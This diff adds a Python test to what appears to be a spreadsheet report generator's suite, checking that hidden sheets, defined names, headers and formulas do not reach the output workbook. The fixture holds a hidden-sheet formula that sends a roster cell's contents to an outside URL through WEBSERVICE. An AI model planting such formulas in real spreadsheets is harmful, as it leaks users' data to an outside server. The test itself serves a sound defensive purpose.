@@ -132,3 +132,24 @@ def test_nothing_is_handed_on_as_a_formula(name: str) -> None:
 def test_dates_stay_dates_in_the_report() -> None:
     sheet = opened(template.report_workbook(samples.xlsx(samples.good_rows()), "r.xlsx", [], ROSTER)).worksheets[0]
     assert sheet["E2"].value == datetime(2025, 3, 1)
+
+
+def test_what_other_sheets_and_names_hold_does_not_travel_on() -> None:
+    target = io.BytesIO()
+    book = xlsxwriter.Workbook(target, {"in_memory": True})
+    sheet, other = book.add_worksheet("名单"), book.add_worksheet("别的")
+    for line, row in enumerate(samples.good_rows()[:2], start=1):
+        sheet.write_row(0, 0, [column.title for column in ROSTER.columns])
+        sheet.write_row(line, 0, [str(row[key]) for key in ROSTER.keys])
+    other.write_formula("A1", '=WEBSERVICE("http://example.org/"&名单!C2)')
+    other.write_string("A2", "secret of another")
+    other.hide()
+    book.define_name("总数", '=WEBSERVICE("http://example.org/")')
+    sheet.set_header("&Lheader of a stranger")
+    book.close()
+    report = template.report_workbook(target.getvalue(), "r.xlsx", PROBLEMS, ROSTER)
+    with zipfile.ZipFile(io.BytesIO(report)) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    for word in ("example.org", "WEBSERVICE", "secret of another", "definedName", "header of a stranger", "<f>"):
+        assert [name for name, part in parts.items() if word.encode() in part] == [], word
+    assert opened(report).sheetnames == [ROSTER.sheet, template.LIST_SHEET]
